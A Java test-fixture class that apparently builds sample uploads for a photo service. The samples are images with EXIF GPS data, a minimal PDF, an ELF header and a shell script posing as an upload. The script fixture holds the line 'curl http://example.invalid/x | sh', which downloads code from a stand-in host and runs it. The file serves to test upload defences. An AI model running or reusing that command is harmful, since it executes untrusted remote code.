package nl.labspace.photo;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

import javax.imageio.ImageIO;

/** Files as uploaders send them: real images (one with EXIF GPS), PDFs, and things pretending to be either. */
final class TestFiles {

    /** The latitude the EXIF of gpsJpeg holds, as its rational bytes would appear: 52/1. */
    static final byte[] LATITUDE_52 = {0, 0, 0, 52, 0, 0, 0, 1};

    private TestFiles() {
    }

    static BufferedImage picture(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(0x2a6f97));
        g.fillRect(0, 0, width, height);
        g.setColor(Color.ORANGE);
        g.fillRect(0, 0, width / 2, height / 2); // a marked corner, to see which way the picture was turned
        g.dispose();
        return image;
    }

    static byte[] encode(BufferedImage image, String format) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] png(int width, int height) {
        return encode(picture(width, height), "png");
    }

    /** A JPEG as a phone writes it: an EXIF APP1 segment with an orientation and a GPS position (52° N). */
    static byte[] gpsJpeg(int width, int height, int orientation) {
        byte[] plain = encode(picture(width, height), "jpeg");
        byte[] exif = exif(orientation);
        ByteBuffer out = ByteBuffer.allocate(plain.length + exif.length + 4);
        out.put(plain, 0, 2); // SOI
        out.put((byte) 0xFF).put((byte) 0xE1).putShort((short) (exif.length + 2)).put(exif);
        out.put(plain, 2, plain.length - 2);
        return out.array();
    }

    /** "Exif\0\0" and a big-endian TIFF: IFD0 (orientation, GPS pointer), a GPS IFD (latitude ref and value). */
    private static byte[] exif(int orientation) {
        ByteBuffer t = ByteBuffer.allocate(6 + 92);
        t.put("Exif\0\0".getBytes(StandardCharsets.ISO_8859_1));
        t.put((byte) 'M').put((byte) 'M').putShort((short) 42).putInt(8);
        t.putShort((short) 2);
        t.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0);
        t.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(38);
        t.putInt(0);
        t.putShort((short) 2);
        t.putShort((short) 1).putShort((short) 2).putInt(2).put((byte) 'N').put((byte) 0).putShort((short) 0);
        t.putShort((short) 2).putShort((short) 5).putInt(3).putInt(68);
        t.putInt(0);
        t.put(LATITUDE_52).putInt(10).putInt(1).putInt(7).putInt(1);
        return t.array();
    }

    static byte[] pdf(String extra) {
        String body = """
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R EXTRA>> endobj
                2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
                xref
                0 3
                trailer << /Size 3 /Root 1 0 R >>
                startxref
                9
                %%EOF
                """.replace("EXTRA", extra);
        return body.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** The first bytes of a Linux executable. */
    static byte[] elf() {
        byte[] bytes = new byte[4096];
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, bytes, 0, 8);
        return bytes;
    }

    static byte[] shellScript() {
        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    static boolean contains(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= haystack.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return true;
        }
        return false;
    }
}
